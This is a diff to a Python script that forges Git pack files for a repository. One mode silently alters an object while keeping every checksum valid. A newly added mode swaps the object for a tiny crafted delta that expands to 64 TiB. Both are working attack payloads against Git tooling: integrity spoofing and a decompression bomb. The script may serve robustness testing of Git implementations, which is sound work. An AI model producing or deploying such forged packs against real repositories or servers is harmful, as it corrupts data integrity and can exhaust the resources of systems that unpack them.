@@ -1,7 +1,9 @@
 """Replaces the packs of a repository by one in which an object is another than its name
 says, though all digests of the files are right.
 
-    forge_pack.py REPOSITORY OBJECT
+    forge_pack.py REPOSITORY OBJECT            one bit of it is another
+    forge_pack.py REPOSITORY OBJECT BASE       it is a few bytes that unpack, by its difference
+                                               from that object, to 64 TiB
 """
 import glob
 import hashlib
@@ -33,14 +35,30 @@ def entry(kind, content):
     return head + bytes([byte]) + zlib.compress(content)
 
 
-def forge(repository, victim):
+def varint(number):
+    text = bytes()
+    while number > 127:
+        text, number = text + bytes([number & 127 | 128]), number >> 7
+    return text + bytes([number])
+
+
+def bomb(base, size):
+    delta = varint(size) + varint(1 << 46) + b"\x90" + bytes([size])  # a copy of the base
+    assert len(delta) < 16 and size < 128
+    return bytes([7 << 4 | len(delta)]) + bytes.fromhex(base) + zlib.compress(delta)
+
+
+def forge(repository, victim, base=None):
     all_of = sorted(objects(repository))
+    sizes = {name: len(content) for name, _, content in all_of}
     pack = b"PACK" + struct.pack(">II", 2, len(all_of))
     names, checks, offsets = [], [], []
     for name, kind, content in all_of:
-        if name == victim:
+        if name == victim and not base:
             content = bytes([content[0] ^ 1]) + content[1:]
         one = entry(kind, content)
+        if name == victim and base:
+            one = bomb(base, sizes[base])
         names.append(bytes.fromhex(name))
         checks.append(struct.pack(">I", zlib.crc32(one)))
         offsets.append(struct.pack(">I", len(pack)))
@@ -59,4 +77,4 @@ def forge(repository, victim):
             file.write(data)
 
 
-forge(sys.argv[1], sys.argv[2])
+forge(*sys.argv[1:])
